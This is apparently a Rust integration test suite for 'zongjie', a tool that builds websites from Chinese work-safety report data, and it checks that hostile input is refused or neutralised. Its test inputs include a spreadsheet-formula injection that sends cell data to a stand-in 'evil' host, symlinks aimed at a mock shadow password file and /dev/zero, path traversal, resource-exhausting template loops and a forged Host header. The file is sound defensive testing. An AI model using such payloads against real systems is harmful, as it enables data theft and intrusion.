//! Hostile input and faults (issue 15), through the binary as a user or CI runs it: one
//! test or more per class of defect. Each builds a small project in a temporary folder.

use std::fs;
use std::path::{Path, PathBuf};

use assert_cmd::Command;

const CONFIG: &str = "title: 测试县安全生产工作总结\norganisation: 测试县安委办\n";

const PERIOD: &str = "period: 2024-H1
author: 安委办
date: 2024-07-06
indicators:
  hazards: {found: 14, rectified: 14}
work:
  - title: 风险防控
    body: |
      发现隐患{{ hazards.found }}处。
";

/// A project with one unit and one period file; `extra` files are written over it.
fn project(extra: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("p");
    write(&root, "zongjie.yaml", CONFIG);
    write(&root, "data/东村/2024-H1.yaml", PERIOD);
    for (rel, text) in extra {
        write(&root, rel, text);
    }
    (tmp, root)
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

/// Runs `zongjie -C root args…` from `cwd`; returns exit code and stderr.
fn run_in(cwd: &Path, root: &Path, args: &[&str]) -> (i32, String) {
    let o = Command::cargo_bin("zongjie")
        .unwrap()
        .current_dir(cwd)
        .arg("-C")
        .arg(root)
        .args(args)
        .timeout(std::time::Duration::from_secs(60))
        .output()
        .unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

fn run(root: &Path, args: &[&str]) -> (i32, String) {
    run_in(root, root, args)
}

// Class 1: `--out` can never replace a folder that is not ours.

#[test]
fn out_through_a_missing_folder_cannot_replace_data() {
    let (_tmp, root) = project(&[]);
    let (code, err) = run(&root, &["build", "--out", "nothere/../data"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("不是 zongjie 生成的"), "{err}");
    assert!(root.join("data/东村/2024-H1.yaml").is_file());
    assert!(!root.join("nothere").exists());
}

#[test]
fn out_as_the_current_folder_is_refused_clearly() {
    let (tmp, root) = project(&[]);
    let empty = tmp.path().join("empty");
    fs::create_dir(&empty).unwrap();
    let (code, err) = run_in(&empty, &root, &["build", "--out", "."]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("当前文件夹"), "{err}");
    assert_eq!(
        fs::read_dir(tmp.path()).unwrap().count(),
        2,
        "nothing left behind"
    );
}

// Class 9: the swap and concurrent builds.

#[test]
fn a_failed_write_says_the_previous_site_is_unchanged() {
    let (_tmp, root) = project(&[]);
    assert_eq!(run(&root, &["build"]).0, 0);
    let before = fs::read(root.join("site/index.html")).unwrap();
    // A file where the staging folder must go makes preparing it fail.
    write(&root, ".site.zongjie-new", "in the way");
    let (code, err) = run(&root, &["build"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("原来的网站保持原样"), "{err}");
    assert_eq!(fs::read(root.join("site/index.html")).unwrap(), before);
}

#[test]
fn an_old_site_left_aside_by_a_crash_is_recovered_by_the_next_build() {
    let (_tmp, root) = project(&[]);
    assert_eq!(run(&root, &["build"]).0, 0);
    fs::rename(root.join("site"), root.join(".site.zongjie-old")).unwrap();
    let (code, err) = run(&root, &["build"]);
    assert_eq!(code, 0, "{err}");
    assert!(root.join("site/index.html").is_file());
    assert!(!root.join(".site.zongjie-old").exists());
}

// Class 2 and prose messages: a body is data, and its problems point where they were typed.

fn period_with_body(body_lines: &str) -> String {
    format!(
        "period: 2024-H1\nindicators:\n  hazards: {{found: 14, rectified: 14}}\nwork:\n  - title: 风险防控\n    body: |\n{body_lines}"
    )
}

#[test]
fn a_misspelt_name_in_a_body_is_reported_at_its_true_line_and_column() {
    let body = "      第一行\n      发现隐患{{ hazard.found }}处。\n";
    let (_tmp, root) = project(&[("data/东村/2024-H1.yaml", &period_with_body(body))]);
    let (code, err) = run(&root, &["build"]);
    assert_eq!(code, 1, "{err}");
    // Line 8, and the name starts at column 7 + 4 (发现隐患) + 3 ({{ ) = 14.
    assert!(err.contains("2024-H1.yaml:8:14:"), "{err}");
    assert!(
        err.contains("未知的名称 hazard.found，是不是 hazards.found？"),
        "{err}"
    );
    assert!(
        !err.contains("__tera") && !err.contains("not defined"),
        "{err}"
    );
}

#[test]
fn loops_and_huge_arguments_in_a_body_are_refused_quickly() {
    for (body, says) in [
        ("      {% for i in range(end=100000) %}{% for j in range(end=100000) %}x{% endfor %}{% endfor %}\n", "不能使用"),
        ("      {{ hazards.found | pct(decimals=70000) }}\n", "超出范围"),
        ("      {{ hazards.found | pcts }}\n", "是不是 pct？"),
    ] {
        let (_tmp, root) = project(&[("data/东村/2024-H1.yaml", &period_with_body(body))]);
        let started = std::time::Instant::now();
        let (code, err) = run(&root, &["build"]);
        assert_eq!(code, 1, "{err}");
        assert!(err.contains(says) && err.contains("2024-H1.yaml:7:"), "{err}");
        assert!(started.elapsed().as_secs() < 20);
    }
}

// Class 3: what a spreadsheet would run as a formula is written as text.

#[test]
fn a_formula_as_a_unit_name_is_text_in_the_csv() {
    let unit = "name: '=HYPERLINK(\"http://evil/?\"&A1,\"x\")'\nslug: evil\n";
    let (_tmp, root) = project(&[("data/东村/unit.yaml", unit)]);
    let (code, err) = run(&root, &["build"]);
    assert_eq!(code, 0, "{err}");
    let csv = fs::read_to_string(root.join("site/data/indicators.csv")).unwrap();
    assert!(csv.contains(",\"'=HYPERLINK("), "{csv}");
    for field in csv.lines().flat_map(|l| l.split(',')) {
        let field = field.trim_start_matches('"');
        assert!(!field.starts_with(['=', '+', '@']), "{field}");
    }
}

// Class 4: only regular files inside the project are read.

#[test]
fn links_out_of_the_project_devices_and_fifos_are_not_read() {
    let (tmp, root) = project(&[]);
    let secret = tmp.path().join("shadow");
    fs::write(&secret, "root:$6$SECRETHASH:19000:0:99999:7:::\n").unwrap();
    let unit = root.join("data/西村");
    fs::create_dir_all(&unit).unwrap();
    std::os::unix::fs::symlink(&secret, unit.join("2024-H1.yaml")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", unit.join("2024-H2.yaml")).unwrap();
    let fifo = unit.join("2024.yaml");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    let started = std::time::Instant::now();
    let (code, err) = run(&root, &["check"]);
    assert!(started.elapsed().as_secs() < 20, "check must not hang");
    assert_eq!(code, 1, "{err}");
    assert!(!err.contains("SECRETHASH"), "{err}");
    assert!(
        err.contains("2024-H1.yaml: 是指向项目文件夹之外的链接"),
        "{err}"
    );
    assert!(
        err.contains("2024-H2.yaml: 是指向项目文件夹之外的链接"),
        "{err}"
    );
    if made.is_ok_and(|s| s.success()) {
        assert!(err.contains("2024.yaml: 不是普通文件"), "{err}");
    }
}

#[test]
fn a_link_to_a_unit_folder_is_skipped_with_a_warning() {
    let (tmp, root) = project(&[]);
    let elsewhere = tmp.path().join("elsewhere");
    write(&elsewhere, "2024-H1.yaml", PERIOD);
    std::os::unix::fs::symlink(&elsewhere, root.join("data/西村")).unwrap();
    let (code, err) = run(&root, &["check"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("data/西村: 单位文件夹是一个链接，已跳过"),
        "{err}"
    );
}

// Class 6: files and names that would be ignored or collide.

#[test]
fn near_miss_file_names_and_yaml_yml_twins_are_reported() {
    let (_tmp, root) = project(&[
        ("data/东村/2024-H1.yml", PERIOD),
        ("data/东村/2025-H1.yaml.txt", PERIOD),
        ("data/东村/2023-H2.YAML", PERIOD),
        ("data/东村/2023-H1.yaml ", PERIOD),
    ]);
    let (code, err) = run(&root, &["check"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("2024-H1.yml: 与 data/东村/2024-H1.yaml 是同一期间"),
        "{err}"
    );
    assert!(err.contains("请改名为 “2025-H1.yaml”"), "{err}");
    assert!(err.contains("请改名为 “2023-H2.yaml”"), "{err}");
    assert!(err.contains("请改名为 “2023-H1.yaml”"), "{err}");
}

#[test]
fn unit_folders_named_like_site_files_are_refused_by_check() {
    let (_tmp, root) = project(&[
        ("data/东村/index.html/2024-H1.yaml", PERIOD),
        ("data/sitemap.xml/2024-H1.yaml", PERIOD),
    ]);
    let (code, err) = run(&root, &["check"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("data/东村/index.html: 单位的网址名 “index.html”"),
        "{err}"
    );
    assert!(
        err.contains("data/sitemap.xml: 单位的网址名 “sitemap.xml”"),
        "{err}"
    );
}

#[test]
fn new_refuses_a_blank_unit_name() {
    let (_tmp, root) = project(&[]);
    let (code, err) = run(&root, &["new", " ", "2024-H2"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("两端不能有空格"), "{err}");
    assert!(!root.join("data/ ").exists());
}

// Class 5: nothing is loaded from outside.

#[test]
fn an_image_from_another_host_becomes_a_link_with_a_warning() {
    let body = "      看图![ ](http://host/p.png)和![现场](//host/x.png)。\n";
    let (_tmp, root) = project(&[("data/东村/2024-H1.yaml", &period_with_body(body))]);
    let (code, err) = run(&root, &["build"]);
    assert_eq!(code, 0, "{err}");
    // 看图 starts at column 7, so the image at column 9.
    assert!(err.contains("警告: data/东村/2024-H1.yaml:7:9: "), "{err}");
    assert!(err.contains("来自网站之外"), "{err}");
    let page = fs::read_to_string(root.join("site/东村/2024-H1/index.html")).unwrap();
    assert!(
        !page.contains("<img src=\"http") && !page.contains("<img src=\"//"),
        "{page}"
    );
    assert!(page.contains("外部图片"), "{page}");
}

// Class 10: the sitemap stays valid XML; serve answers only loopback names.

#[test]
fn a_base_url_with_an_ampersand_keeps_the_sitemap_valid_xml() {
    let (_tmp, root) = project(&[]);
    let (code, err) = run(
        &root,
        &["build", "--base-url", "http://intra.example/s?a=1&b=<2>"],
    );
    assert_eq!(code, 0, "{err}");
    let xml = fs::read_to_string(root.join("site/sitemap.xml")).unwrap();
    let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{e}\n{xml}"));
    let first = doc.descendants().find(|n| n.has_tag_name("loc")).unwrap();
    assert!(first
        .text()
        .unwrap()
        .starts_with("http://intra.example/s?a=1&b=<2>/"));
}

#[test]
fn serve_refuses_a_foreign_host_name() {
    use std::io::{BufRead, BufReader, Read, Write};
    let (_tmp, root) = project(&[]);
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("zongjie"))
        .arg("-C")
        .arg(&root)
        .args(["serve", "--port", "0"])
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
    let url = lines
        .by_ref()
        .map_while(Result::ok)
        .find_map(|l| {
            l.split_once("http://")
                .map(|(_, u)| u.trim_end_matches(|c| c != '/').to_string())
        })
        .expect("serve prints its address");
    let addr = url.trim_end_matches('/').to_string();
    let status = |host: &str| {
        let mut s = std::net::TcpStream::connect(&addr).unwrap();
        write!(
            s,
            "GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut reply = String::new();
        let _ = s.read_to_string(&mut reply);
        reply.lines().next().unwrap_or_default().to_string()
    };
    let foreign = status("evil.example");
    let ours = status(&addr);
    let _ = child.kill();
    let _ = child.wait();
    assert!(foreign.contains(" 403"), "{foreign}");
    assert!(ours.contains(" 200"), "{ours}");
}

// Class 7: numbers beyond any office's figures, and typing slips named for what they are.

fn check_period(indicators: &str) -> (i32, String) {
    let text = format!("period: 2024-H1\nindicators:\n{indicators}");
    let (_tmp, root) = project(&[("data/东村/2024-H1.yaml", &text)]);
    run(&root, &["check"])
}

#[test]
fn figures_beyond_a_trillion_are_refused_with_the_limit() {
    for n in ["99999999999999999999999", "1e308", "9223372036854775808"] {
        let (code, err) = check_period(&format!("  hazards: {{found: {n}, rectified: 1}}\n"));
        assert_eq!(code, 1, "{n}: {err}");
        assert!(
            err.contains("2024-H1.yaml:3:20:") && err.contains("超出上限"),
            "{n}: {err}"
        );
        assert!(err.contains("一万亿"), "{err}");
    }
}

#[test]
fn a_thousands_comma_is_named_not_blamed_on_a_key_000() {
    let (code, err) = check_period("  hazards: {found: 1,000, rectified: 5}\n");
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("千位分隔的逗号") && err.contains("写成 1000"),
        "{err}"
    );
    let (_, err) = check_period("  hazards:\n    found: 1,000\n");
    assert!(err.contains("千位分隔的逗号"), "{err}");
}

#[test]
fn a_no_break_space_after_a_number_is_named() {
    let (code, err) = check_period("  hazards:\n    found: 46\u{a0}\n");
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("2024-H1.yaml:4:12:") && err.contains("不间断空格（U+00A0"),
        "{err}"
    );
}

#[test]
fn a_full_width_colon_or_indent_is_named_at_its_place() {
    let (code, err) = check_period("  hazards:\n    found：12\n");
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("2024-H1.yaml:4:10: 键后面用了全角冒号“：”，请改为半角“:”"),
        "{err}"
    );
    let (_, err) = check_period("  hazards:\n　　found: 12\n");
    assert!(err.contains("2024-H1.yaml:4:1: 缩进用了全角空格"), "{err}");
    // In prose both are ordinary text.
    let text = "period: 2024-H1\nwork:\n  - title: 总结\n    body: |\n      note：如下\n      　　段落。\n";
    let (_tmp, root) = project(&[("data/东村/2024-H1.yaml", text)]);
    let (code, err) = run(&root, &["check"]);
    assert_eq!(code, 0, "{err}");
}

// Class 8: configuration mistakes are said first, alone, and never silently accepted.

fn check_config(extra: &str, files: &[(&str, &[u8])]) -> (i32, String) {
    let (_tmp, root) = project(&[("zongjie.yaml", &format!("{CONFIG}{extra}"))]);
    for (rel, bytes) in files {
        fs::create_dir_all(root.join(rel).parent().unwrap()).unwrap();
        fs::write(root.join(rel), bytes).unwrap();
    }
    run(&root, &["check"])
}

#[test]
fn a_syntax_error_in_the_config_is_reported_alone() {
    let extra = "indicators:\n  - {id: warnings.issued, label: 预警, unit: 条\n";
    let data = "period: 2024-H1\nindicators:\n  warnings: {issued: 3}\n";
    let (code, err) = check_config(extra, &[("data/西村/2024-H1.yaml", data.as_bytes())]);
    assert_eq!(code, 1, "{err}");
    assert!(err.starts_with("错误: zongjie.yaml:"), "{err}");
    assert_eq!(err.matches("错误:").count(), 1, "{err}");
}

#[test]
fn a_rate_target_of_100_is_refused_with_the_fraction() {
    let (code, err) = check_config("targets:\n  hazards.rectification_rate: {min: 100}\n", &[]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("超过了 1") && err.contains("这里应写 1。"),
        "{err}"
    );
    let (_, err) = check_config("targets:\n  hazards.rectification_rate: {min: 100%}\n", &[]);
    assert!(
        err.contains("百分号") && err.contains("100% 写 1.0"),
        "{err}"
    );
}

#[test]
fn a_ratio_cycle_and_fractional_decimals_are_refused() {
    let extra = "indicators:\n  - {id: x.a, label: 甲, unit: \"%\", ratio: [x.b, x.n]}\n  - {id: x.b, label: 乙, unit: \"%\", ratio: [x.a, x.n]}\n  - {id: x.n, label: 丙, unit: 个, agg: sum, decimals: 2.5}\n";
    let (code, err) = check_config(extra, &[]);
    assert_eq!(code, 1, "{err}");
    // A ratio built on a ratio (a cycle included) is refused.
    assert!(err.contains("比率指标 `x.a` 以另一个比率 `x.b`"), "{err}");
    assert!(err.contains("比率指标 `x.b` 以另一个比率 `x.a`"), "{err}");
    assert!(err.contains("应为 0 到 6 的整数，这里是 2.5"), "{err}");
}

#[test]
fn a_gbk_or_misspelt_template_override_is_not_silently_ignored() {
    // "模板" in GBK.
    let gbk: &[u8] = b"<p>\xc4\xa3\xb0\xe5</p>";
    let (tmp, root) = project(&[("templates/repot.html", "<p>x</p>")]);
    fs::write(root.join("templates/report.html"), gbk).unwrap();
    let (code, err) = run(&root, &["build"]);
    drop(tmp);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("templates/report.html") && err.contains("GB"),
        "{err}"
    );
    assert!(
        err.contains("templates/repot.html: 这个文件不对应任何内置模板"),
        "{err}"
    );
    assert!(err.contains("report.html`？"), "{err}");
}

// Template messages: Chinese, at the template's line and column, no Tera internals.

#[test]
fn a_template_override_problem_is_told_in_chinese_at_its_place() {
    let (_tmp, root) = project(&[("templates/index.html", "<p>\n  {{ nothere }}</p>\n")]);
    let (code, err) = run(&root, &["build"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains(
            "templates/index.html:2:6: 生成页面 index.html 时模板出错：变量 nothere 不存在"
        ),
        "{err}"
    );
    let (_tmp, root) = project(&[("templates/index.html", "{{ x | nofilter }}")]);
    let (code, err) = run(&root, &["build"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("templates/index.html:1:8: 模板有错误：未知的过滤器 nofilter"),
        "{err}"
    );
    assert!(!err.contains("__tera"), "{err}");
}

#[test]
fn a_second_build_while_one_holds_the_lock_says_another_is_running() {
    let (_tmp, root) = project(&[]);
    assert_eq!(run(&root, &["build"]).0, 0);
    let before = fs::read(root.join("site/index.html")).unwrap();
    // util-linux flock holds the same kind of lock a running build holds.
    let Ok(mut holder) = std::process::Command::new("flock")
        .arg(root.join(".site.zongjie-lock"))
        .args(["sleep", "30"])
        .spawn()
    else {
        return; // no flock on this machine; the unit test in output.rs covers the lock.
    };
    let mut held = false;
    for _ in 0..100 {
        std::thread::sleep(std::time::Duration::from_millis(50));
        let (code, err) = run(&root, &["build"]);
        if code == 2 {
            assert!(err.contains("另一个 zongjie build 正在写入"), "{err}");
            held = true;
            break;
        }
    }
    let _ = holder.kill();
    let _ = holder.wait();
    assert!(held, "the build never saw the lock");
    assert_eq!(fs::read(root.join("site/index.html")).unwrap(), before);
}
